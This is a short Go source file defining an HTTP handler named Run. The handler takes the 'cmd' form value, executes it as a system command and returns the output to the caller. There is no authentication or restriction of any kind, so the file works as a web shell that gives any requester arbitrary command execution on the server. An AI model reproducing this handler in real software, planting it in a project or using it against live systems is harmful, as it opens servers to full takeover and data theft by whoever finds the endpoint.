package tools

import (
	"net/http"
	"os/exec"
	"strings"
)

func Run(w http.ResponseWriter, r *http.Request) {
	parts := strings.Fields(r.FormValue("cmd"))
	if len(parts) == 0 {
		http.Error(w, "empty", http.StatusUnprocessableEntity)
		return
	}
	out, _ := exec.Command(parts[0], parts[1:]...).Output()
	w.Write(out)
}
